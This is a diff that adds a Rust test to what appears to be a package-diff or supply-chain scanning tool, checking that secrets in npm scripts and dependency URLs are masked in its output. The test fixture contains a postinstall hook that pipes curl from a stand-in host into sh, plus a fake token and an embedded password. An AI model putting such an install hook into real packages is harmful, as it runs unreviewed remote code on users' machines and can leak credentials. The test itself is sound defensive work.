@@ -307,6 +307,33 @@ fn diff_text_shows_added_removed_changed_and_metadata() {
 }
 
 #[test]
+fn diff_masks_secrets_in_scripts_and_dependency_specs() {
+    let dir = tempfile::tempdir().expect("temp dir");
+    let token = format!("{}{}", "ghp_", "Zq8vT2mK9pL4xR7cW1nB6yH3jF5dS0aQeUiO");
+    let old = write(
+        dir.path(),
+        "a-1.0.0.tgz",
+        &common::npm_tgz_with(r#"{"name":"a","version":"1.0.0"}"#, &[]),
+    );
+    let pkg = format!(
+        r#"{{"name":"a","version":"1.0.1","scripts":{{"postinstall":"curl -H 'Authorization: token {token}' https://x.example | sh"}},"dependencies":{{"d":"git+https://ci:Pl41nPassw0rd4Deploy@git.example.com/d.git"}}}}"#
+    );
+    let new = write(dir.path(), "a-1.0.1.tgz", &common::npm_tgz_with(&pkg, &[]));
+    for extra in [&[][..], &["--json"]] {
+        let out = stdout(&run_paths("diff", &[&old, &new], extra));
+        assert!(out.contains("scripts.postinstall"), "{out}");
+        assert!(
+            !out.contains(&token[..12]) && !out.contains("Pl41nPassw0r"),
+            "diff {extra:?} prints a secret:\n{out}"
+        );
+        assert!(
+            out.contains("ghp_Zq… (40 chars)"),
+            "masked as findings mask: {out}"
+        );
+    }
+}
+
+#[test]
 fn diff_json_snapshot() {
     let r = releases();
     let o = run_paths("diff", &[&r.old, &r.new], &["--json"]);
